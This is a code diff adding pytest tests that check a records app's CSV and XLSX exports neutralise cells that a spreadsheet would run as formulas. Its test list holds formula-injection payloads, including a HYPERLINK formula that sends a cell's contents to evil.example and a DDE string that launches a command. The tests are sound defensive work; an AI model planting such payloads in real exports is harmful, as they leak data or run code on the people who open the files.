@@ -48,3 +48,37 @@ def test_xlsx_keeps_types_in_local_time():
     assert values[1][1].date() == date(1990, 3, 9)
     assert values[1][2] == datetime(2026, 11, 23, 8, 30)
     assert values[2][2] is None
+
+
+# What a resident's note or name could hold (issue 12): a spreadsheet would run each as a formula.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(text):
+    rows = [{"name": text, "born": None, "at": None, "note": text}]
+    data = b"".join(exports.csv_chunks(COLUMNS, iter(rows))).decode("utf-8-sig")
+    cells = list(csv.reader(io.StringIO(data)))[1]
+    assert cells[0] == "'" + text and cells[3] == "'" + text
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_xlsx_text_cells_are_text_never_formulas(text):
+    rows = [{"name": text, "born": date(1990, 3, 9), "at": None, "note": -5}]
+    with exports.xlsx_file(COLUMNS, iter(rows)) as f:
+        name, born, _at, note = load_workbook(f).active[2]
+    assert name.data_type == "s" and name.value == "'" + text
+    assert born.is_date and note.value == -5  # numbers and dates stay what they are
+
+
+def test_ordinary_text_is_left_as_it_is():
+    assert exports.neutral("Nguyễn Thị Lân") == "Nguyễn Thị Lân"
+    assert exports.neutral("0912 345 678") == "0912 345 678"
+    assert exports.neutral(-3) == -3
